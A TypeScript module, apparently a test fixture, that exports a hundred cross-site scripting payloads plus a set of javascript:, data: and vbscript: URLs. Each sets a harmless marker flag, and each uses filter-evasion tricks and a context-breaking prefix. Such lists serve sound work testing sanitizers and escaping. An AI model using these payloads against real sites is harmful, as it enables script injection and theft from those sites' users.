/** Markup that runs a script where it is taken for more than a text. `HIT` sets what tells of it. */
const HIT = 'window.__xss=1';

const carriers = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}//`,
  `<img src=x onerror=${HIT}>`,
  `<img/src="x"/onerror="${HIT}">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${HIT}></mtext></math>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<video><source onerror=${HIT}></video>`,
  `<object data="javascript:${HIT}"></object>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button autofocus>x</button></form>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${HIT}">`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<template><img src=x onerror=${HIT}></template>`,
];

/** What would end the place where a text stands: nothing, attributes, elements that hold text, sections and comments. */
const ends = ['', '">', "'>", '</title></textarea></script></style>', ']]>-->'];

/** A hundred texts. */
export const xssPayloads: readonly string[] = ends.flatMap((end) => carriers.map((carrier) => `${end}${carrier}`));

/** Addresses that run a script where they are followed. */
export const xssAddresses: readonly string[] = [
  `javascript:${HIT}`,
  ` JaVaScRiPt:${HIT}`,
  `java\nscript:${HIT}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `vbscript:${HIT}`,
];
